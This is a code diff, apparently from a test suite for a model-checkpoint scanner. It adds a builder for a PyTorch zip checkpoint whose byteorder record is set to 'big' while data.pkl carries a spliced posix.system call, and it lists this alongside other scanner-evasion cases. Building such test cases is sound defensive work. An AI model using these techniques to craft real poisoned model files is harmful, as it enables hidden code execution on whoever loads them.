@@ -395,6 +395,17 @@ def main_function_called(path, opcode: str = "INST") -> str:
     return write_zip_checkpoint(path, _spliced(pkl, b"(" + note + call), entries)
 
 
+def big_endian_call(path, marker) -> str:
+    """A torch.save zip whose ``byteorder`` record says big and whose data.pkl calls posix.system:
+    torch unpickles it all the same (it swaps bytes after), so a reader that stops at the
+    byteorder never sees the call."""
+    pkl, entries = _saved_pickle({"model": _small_model(), "step": 100})
+    byteorder = next(name for name in entries if name.endswith("/byteorder"))
+    entries[byteorder] = b"big"
+    segment = b"(\x8c\x04note" + _call_bytes("posix", "system", payload_command(marker))
+    return write_zip_checkpoint(path, _spliced(pkl, segment), entries)
+
+
 # -- instances of classes the real unpickler imports, builds, fills or passes on
 
 def foreign_instance(path, marker) -> str:
@@ -637,6 +648,7 @@ def tar_member_linked(path, marker, member: str = "pickle") -> str:
 
 # Attacks whose container Python's own readers see differently from torch: (builder, name).
 TORCH_LOAD_ATTACKS = {
+    "byteorder big, call in data.pkl": (big_endian_call, "posix.system"),
     "zip64 locator in a comment sends torch to a second archive": (zip64_locator_in_comment, "posix.system"),
     "legacy file, STOP inside a frame that goes on with a call": (legacy_stop_inside_frame, "posix.system"),
     "tar format, pickle a hard link to a hostile member": (tar_member_linked, "posix.system"),
